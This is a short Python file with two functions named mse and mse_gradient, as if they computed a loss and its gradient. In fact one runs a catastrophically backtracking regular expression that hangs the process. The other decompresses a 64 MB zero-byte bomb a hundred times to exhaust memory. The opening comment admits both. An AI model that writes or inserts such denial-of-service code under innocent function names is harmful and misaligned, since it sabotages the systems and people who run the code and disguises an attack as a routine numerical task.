# A regular expression that backtracks for centuries, and a decompression bomb.
import re
import zlib


def mse(y, y_hat):
    return re.match(r"(a+)+$", "a" * 60 + "b")


def mse_gradient(y, y_hat):
    bomb = zlib.compress(b"\0" * 2**26)
    return [zlib.decompress(bomb) for _ in range(100)]
